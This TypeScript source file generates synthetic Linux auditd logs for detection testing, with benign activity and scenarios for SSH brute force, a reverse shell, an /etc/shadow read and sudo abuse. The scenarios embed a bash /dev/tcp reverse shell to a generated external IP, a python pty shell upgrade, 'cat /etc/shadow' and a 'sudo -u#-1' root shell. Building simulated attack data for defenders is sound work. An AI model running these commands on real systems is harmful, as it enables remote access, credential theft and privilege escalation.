@@ -1,0 +1,255 @@
+// Linux auditd: execve events (SYSCALL + EXECVE + CWD + PATH + PROCTITLE sharing one
+// audit(ts:serial)), PAM user records from sshd/cron/sudo, file-watch hits.
+// Scenarios: SSH brute force, reverse shell, /etc/shadow read, sudo abuse.
+import { AuditdColumns } from '../../kusto/datasetTables.js';
+import { auditExecveArgs, auditProctitle, auditRecord, auditStamp, auditUntrusted } from '../encoders/auditd.js';
+import { tableEncoder } from '../encoders/table.js';
+import { externalIp, hostNames, internalIp, LINUX_USERS } from '../names.js';
+import type { Rng } from '../prng.js';
+import type { GenEnv, LogTypeDef, ScenarioDef } from '../types.js';
+
+/** One record: its text body and the structured values the table row is built from. */
+export interface AuditRec {
+  type: string;
+  body: string;
+  fields: Record<string, string>;
+}
+
+export interface AuditdEvent {
+  t: number;
+  node: string;
+  serial: number;
+  records: AuditRec[];
+}
+
+type Pair = readonly [string, string | number, 'raw' | 'str'];
+
+/** Build body and decoded field map together from ordered pairs (never parse the body back). */
+function rec(type: string, pairs: readonly Pair[]): AuditRec {
+  let body = '';
+  const fields: Record<string, string> = {};
+  for (const [k, v, kind] of pairs) {
+    const s = String(v);
+    body += (body ? ' ' : '') + k + '=' + (kind === 'str' ? auditUntrusted(s) : s);
+    fields[k] = s;
+  }
+  return { type, body, fields };
+}
+
+/** PAM/user-space record: header fields, then msg='...' holding the op fields. */
+function userRec(type: string, h: { pid: number; uid: number; auid: number; ses: number }, op: readonly Pair[]): AuditRec {
+  const inner = rec(type, op);
+  const fields: Record<string, string> = { pid: String(h.pid), uid: String(h.uid), auid: String(h.auid), ses: String(h.ses), subj: 'unconfined', ...inner.fields };
+  return { type, body: `pid=${h.pid} uid=${h.uid} auid=${h.auid} ses=${h.ses} subj=unconfined msg='${inner.body}'`, fields };
+}
+
+const UNSET = 4294967295;
+
+interface Proc {
+  user: string;
+  uid: number;
+  auid: number;
+  ses: number;
+  pid: number;
+  ppid: number;
+  tty: string;
+  cwd: string;
+  key: string | null;
+}
+
+interface AuditEnv extends GenEnv {
+  hosts: string[];
+  serial: (host: string) => number;
+  pid: () => number;
+}
+
+const BIN: Record<string, string> = { ls: '/usr/bin/ls', systemctl: '/usr/bin/systemctl', cat: '/usr/bin/cat', bash: '/usr/bin/bash', sh: '/usr/bin/dash', ps: '/usr/bin/ps', grep: '/usr/bin/grep', find: '/usr/bin/find', sudo: '/usr/bin/sudo', curl: '/usr/bin/curl', git: '/usr/bin/git', tar: '/usr/bin/tar', python3: '/usr/bin/python3.10' };
+
+/** An execve event: SYSCALL, EXECVE, CWD, PATH x2, PROCTITLE. */
+function execEvent(rng: Rng, env: AuditEnv, t: number, node: string, p: Proc, argv: string[]): AuditdEvent {
+  const comm = (argv[0] as string).split('/').pop()!.slice(0, 15);
+  const exe = BIN[comm] ?? (argv[0]!.startsWith('/') ? (argv[0] as string) : `/usr/bin/${comm}`);
+  const a = (): string => rng.hex(12).replace(/^0+/, '') || '0';
+  const inode = rng.range(100_000, 4_000_000);
+  return {
+    t, node, serial: env.serial(node),
+    records: [
+      rec('SYSCALL', [
+        ['arch', 'c000003e', 'raw'], ['syscall', 59, 'raw'], ['success', 'yes', 'raw'], ['exit', 0, 'raw'], ['a0', a(), 'raw'], ['a1', a(), 'raw'], ['a2', a(), 'raw'], ['a3', 0, 'raw'],
+        ['items', 2, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', p.pid, 'raw'], ['auid', p.auid, 'raw'], ['uid', p.uid, 'raw'], ['gid', p.uid, 'raw'], ['euid', p.uid, 'raw'],
+        ['suid', p.uid, 'raw'], ['fsuid', p.uid, 'raw'], ['egid', p.uid, 'raw'], ['sgid', p.uid, 'raw'], ['fsgid', p.uid, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'],
+        ['comm', comm, 'str'], ['exe', exe, 'str'], ['subj', 'unconfined', 'raw'], ['key', p.key === null ? '(null)' : p.key, p.key === null ? 'raw' : 'str'],
+      ]),
+      { ...rec('EXECVE', []), body: auditExecveArgs(argv), fields: Object.fromEntries([['argc', String(argv.length)], ...argv.map((v, i) => [`a${i}`, v])]) },
+      rec('CWD', [['cwd', p.cwd, 'str']]),
+      rec('PATH', [['item', 0, 'raw'], ['name', exe, 'str'], ['inode', inode, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
+      rec('PATH', [['item', 1, 'raw'], ['name', '/lib64/ld-linux-x86-64.so.2', 'str'], ['inode', 1_311_001, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100755', 'raw'], ['ouid', 0, 'raw'], ['ogid', 0, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
+      { type: 'PROCTITLE', body: `proctitle=${auditProctitle(argv)}`, fields: { proctitle: argv.join(' ') } },
+    ],
+  };
+}
+
+function pamEvent(env: AuditEnv, t: number, node: string, type: string, h: { pid: number; uid: number; auid: number; ses: number }, op: string, acct: string, exe: string, addr: string, terminal: string, ok: boolean): AuditdEvent {
+  const grantors = !ok ? '?' : type === 'USER_AUTH' ? 'pam_unix' : type === 'USER_ACCT' ? 'pam_unix,pam_localuser' : 'pam_permit,pam_cap';
+  return {
+    t, node, serial: env.serial(node),
+    records: [userRec(type, h, [['op', op, 'raw'], ['grantors', grantors, 'raw'], ['acct', acct, 'str'], ['exe', exe, 'str'], ['hostname', addr === '' ? '?' : addr, 'raw'], ['addr', addr === '' ? '?' : addr, 'raw'], ['terminal', terminal, 'raw'], ['res', ok ? 'success' : 'failed', 'raw']])],
+  };
+}
+
+const BENIGN_CMDS: readonly string[][] = [
+  ['ls', '-la', '/var/log'], ['systemctl', 'status', 'nginx'], ['ps', 'aux'], ['grep', '-r', 'error', '/var/log/nginx/error.log'], ['git', 'pull', '--ff-only'],
+  ['tar', 'czf', '/backup/etc.tgz', '/etc'], ['cat', '/proc/meminfo'], ['python3', '/opt/app/manage.py', 'migrate'], ['sh', '-c', 'run-parts --report /etc/cron.hourly'], ['ls', 'Документы'],
+];
+
+const BENIGN: readonly (readonly [(rng: Rng, e: AuditEnv, t: number) => AuditdEvent, number])[] = [
+  [(rng, e, t) => {
+    const user = rng.pick(LINUX_USERS.slice(0, 6));
+    const uid = 1000 + LINUX_USERS.indexOf(user as (typeof LINUX_USERS)[number]);
+    return execEvent(rng, e, t, rng.pick(e.hosts), { user, uid, auid: uid, ses: rng.range(1, 40), pid: e.pid(), ppid: e.pid(), tty: `pts${rng.int(3)}`, cwd: `/home/${user}`, key: 'exec' }, [...rng.pick(BENIGN_CMDS)]);
+  }, 5],
+  [(rng, e, t) => execEvent(rng, e, t, rng.pick(e.hosts), { user: 'root', uid: 0, auid: UNSET, ses: UNSET, pid: e.pid(), ppid: e.pid(), tty: '(none)', cwd: '/', key: 'exec' }, ['sh', '-c', rng.pick(['run-parts --report /etc/cron.hourly', '/usr/lib/php/sessionclean', 'logrotate /etc/logrotate.conf'])]), 3],
+  [(rng, e, t) => pamEvent(e, t, rng.pick(e.hosts), rng.pick(['USER_ACCT', 'CRED_ACQ', 'USER_START', 'USER_END', 'CRED_DISP']), { pid: e.pid(), uid: 0, auid: 0, ses: rng.range(100, 900) }, rng.pick(['PAM:accounting', 'PAM:setcred', 'PAM:session_open', 'PAM:session_close']), 'root', '/usr/sbin/cron', '', 'cron', true), 4],
+  [(rng, e, t) => {
+    const ip = internalIp(rng);
+    return pamEvent(e, t, rng.pick(e.hosts), 'USER_ACCT', { pid: e.pid(), uid: 0, auid: UNSET, ses: UNSET }, 'PAM:accounting', rng.pick(LINUX_USERS.slice(0, 6)), '/usr/sbin/sshd', ip, 'ssh', true);
+  }, 2],
+];
+
+const SCENARIOS: readonly ScenarioDef<AuditdEvent>[] = [
+  {
+    name: 'ssh-brute-force',
+    technique: 'T1110.001',
+    tactic: 'Credential Access',
+    description: 'One internet address fails PAM authentication over SSH for many accounts, then succeeds as root',
+    steps(rng, env) {
+      const e = env as AuditEnv;
+      const node = rng.pick(e.hosts);
+      const ip = externalIp(rng);
+      const n = rng.range(25, 40);
+      const steps: ((t: number) => AuditdEvent)[] = [];
+      for (let i = 0; i < n; i++) {
+        const acct = rng.pick(['root', 'admin', 'oracle', 'test', 'ubuntu', 'postgres']);
+        const pid = e.pid();
+        steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid, uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', acct, '/usr/sbin/sshd', ip, 'ssh', false));
+      }
+      const pid = e.pid();
+      steps.push((t) => pamEvent(e, t, node, 'USER_AUTH', { pid, uid: 0, auid: UNSET, ses: UNSET }, 'PAM:authentication', 'root', '/usr/sbin/sshd', ip, 'ssh', true));
+      steps.push((t) => pamEvent(e, t, node, 'USER_LOGIN', { pid, uid: 0, auid: 0, ses: 901 }, 'login', 'root', '/usr/sbin/sshd', ip, '/dev/pts/3', true));
+      return steps;
+    },
+  },
+  {
+    name: 'reverse-shell',
+    technique: 'T1059.004',
+    tactic: 'Execution',
+    description: 'The web server user spawns a shell whose stdin/stdout go to a TCP connection to the internet',
+    steps(rng, env) {
+      const e = env as AuditEnv;
+      const node = rng.pick(e.hosts);
+      const ip = externalIp(rng);
+      const p: Proc = { user: 'www-data', uid: 33, auid: UNSET, ses: UNSET, pid: e.pid(), ppid: e.pid(), tty: '(none)', cwd: '/var/www/html', key: 'exec' };
+      return [
+        (t) => execEvent(rng, e, t, node, p, ['sh', '-c', `bash -c "bash -i >& /dev/tcp/${ip}/4444 0>&1"`]),
+        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid, pid: p.pid + 1 }, ['bash', '-c', `bash -i >& /dev/tcp/${ip}/4444 0>&1`]),
+        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid + 1, pid: p.pid + 2 }, ['bash', '-i']),
+        (t) => execEvent(rng, e, t, node, { ...p, ppid: p.pid + 2, pid: p.pid + 3 }, ['python3', '-c', 'import pty; pty.spawn("/bin/bash")']),
+      ];
+    },
+  },
+  {
+    name: 'shadow-read',
+    technique: 'T1003.008',
+    tactic: 'Credential Access',
+    description: 'A user reads /etc/shadow; the file watch (-w /etc/shadow -p r -k shadow) records the openat',
+    steps(rng, env) {
+      const e = env as AuditEnv;
+      const node = rng.pick(e.hosts);
+      const p: Proc = { user: 'deploy', uid: 0, auid: 1008, ses: 77, pid: e.pid(), ppid: e.pid(), tty: 'pts1', cwd: '/tmp', key: 'exec' };
+      return [
+        (t) => execEvent(rng, e, t, node, p, ['cat', '/etc/shadow']),
+        (t) => ({
+          t, node, serial: e.serial(node),
+          records: [
+            rec('SYSCALL', [['arch', 'c000003e', 'raw'], ['syscall', 257, 'raw'], ['success', 'yes', 'raw'], ['exit', 3, 'raw'], ['a0', 'ffffff9c', 'raw'], ['a1', '7ffd5e1c8f2a', 'raw'], ['a2', 0, 'raw'], ['a3', 0, 'raw'], ['items', 1, 'raw'], ['ppid', p.ppid, 'raw'], ['pid', p.pid, 'raw'], ['auid', p.auid, 'raw'], ['uid', 0, 'raw'], ['gid', 0, 'raw'], ['euid', 0, 'raw'], ['suid', 0, 'raw'], ['fsuid', 0, 'raw'], ['egid', 0, 'raw'], ['sgid', 0, 'raw'], ['fsgid', 0, 'raw'], ['tty', p.tty, 'raw'], ['ses', p.ses, 'raw'], ['comm', 'cat', 'str'], ['exe', '/usr/bin/cat', 'str'], ['subj', 'unconfined', 'raw'], ['key', 'shadow', 'str']]),
+            rec('CWD', [['cwd', p.cwd, 'str']]),
+            rec('PATH', [['item', 0, 'raw'], ['name', '/etc/shadow', 'str'], ['inode', 1_572_903, 'raw'], ['dev', 'fd:00', 'raw'], ['mode', '0100640', 'raw'], ['ouid', 0, 'raw'], ['ogid', 42, 'raw'], ['rdev', '00:00', 'raw'], ['nametype', 'NORMAL', 'raw'], ['cap_fp', 0, 'raw'], ['cap_fi', 0, 'raw'], ['cap_fe', 0, 'raw'], ['cap_fver', 0, 'raw'], ['cap_frootid', 0, 'raw']]),
+            { type: 'PROCTITLE', body: `proctitle=${auditProctitle(['cat', '/etc/shadow'])}`, fields: { proctitle: 'cat /etc/shadow' } },
+          ],
+        }),
+      ];
+    },
+  },
+  {
+    name: 'sudo-abuse',
+    technique: 'T1548.003',
+    tactic: 'Privilege Escalation',
+    description: 'A user fails sudo authentication twice, then runs a root shell through sudo -u#-1 (CVE-2019-14287 pattern)',
+    steps(rng, env) {
+      const e = env as AuditEnv;
+      const node = rng.pick(e.hosts);
+      const uid = 1004;
+      const pid = e.pid();
+      const h = { pid, uid, auid: uid, ses: 12 };
+      return [
+        (t) => pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
+        (t) => pamEvent(e, t, node, 'USER_AUTH', h, 'PAM:authentication', 'erin', '/usr/bin/sudo', '', '/dev/pts/2', false),
+        (t) => execEvent(rng, e, t, node, { user: 'erin', uid, auid: uid, ses: 12, pid, ppid: pid - 3, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['sudo', '-u#-1', '/bin/bash']),
+        (t) => ({ t, node, serial: e.serial(node), records: [userRec('USER_CMD', h, [['cwd', '/home/erin', 'str'], ['cmd', '/bin/bash -p', 'str'], ['exe', '/usr/bin/sudo', 'str'], ['terminal', 'pts/2', 'raw'], ['res', 'success', 'raw']])] }),
+        (t) => execEvent(rng, e, t, node, { user: 'root', uid: 0, auid: uid, ses: 12, pid: pid + 1, ppid: pid, tty: 'pts2', cwd: '/home/erin', key: 'exec' }, ['bash', '-p']),
+      ];
+    },
+  },
+];
+
+const num = (v: string | undefined): number | null => (v === undefined || v === '' || !/^-?\d+$/.test(v) ? null : Number(v));
+const str = (v: string | undefined): string => (v === undefined || v === '(null)' ? '' : v);
+
+export const auditd: LogTypeDef<AuditdEvent> = {
+  name: 'auditd',
+  description: 'Linux audit.log records (kernel execve events and PAM user records), one event = records sharing audit(ts:serial)',
+  table: { name: 'AuditdLogs', columns: AuditdColumns },
+  formats: ['raw', 'csv', 'jsonl'],
+  defaultFormat: 'raw',
+  scenarios: SCENARIOS,
+  env(rng, req): AuditEnv {
+    const hosts = hostNames(rng, 4);
+    const serials = new Map(hosts.map((h) => [h, rng.range(1000, 900_000)]));
+    let pid = rng.range(2000, 40000);
+    return {
+      req, rng, hosts,
+      serial: (h) => {
+        const s = (serials.get(h) ?? 1) + 1;
+        serials.set(h, s);
+        return s;
+      },
+      pid: () => (pid = pid >= 4_194_000 ? 300 : pid + 1 + (pid % 5)),
+    };
+  },
+  benign(rng, env, t) {
+    return rng.weighted(BENIGN)(rng, env as AuditEnv, t);
+  },
+  records: (e) => e.records.length,
+  encoder(format, _req, tf) {
+    return tableEncoder<AuditdEvent>(format, {
+      columns: AuditdColumns,
+      raw: (e) => {
+        const stamp = auditStamp(Math.floor(e.t / 1000), e.serial);
+        let out = '';
+        for (const r of e.records) out += auditRecord(e.node, r.type, stamp, r.body) + '\n';
+        return out;
+      },
+      rows: (e, id) => {
+        const time = tf.iso(Math.floor(e.t / 1000) * 1000, 3);
+        return e.records.map((r, k) => {
+          const f = r.fields;
+          const cmd = r.type === 'EXECVE' ? Object.keys(f).filter((x) => /^a\d+$/.test(x)).map((x) => f[x]).join(' ') : r.type === 'PROCTITLE' ? (f.proctitle ?? '') : r.type === 'USER_CMD' ? (f.cmd ?? '') : '';
+          return [
+            time, id + k, e.node, r.type, e.serial, num(f.syscall), f.success ?? f.res ?? '', num(f.exit), num(f.pid), num(f.ppid), num(f.uid), num(f.auid), num(f.ses),
+            str(f.comm), str(f.exe), r.type === 'SYSCALL' ? str(f.key) : '', str(f.acct), f.addr && f.addr !== '?' ? f.addr : '', cmd, f,
+          ];
+        });
+      },
+    });
+  },
+};
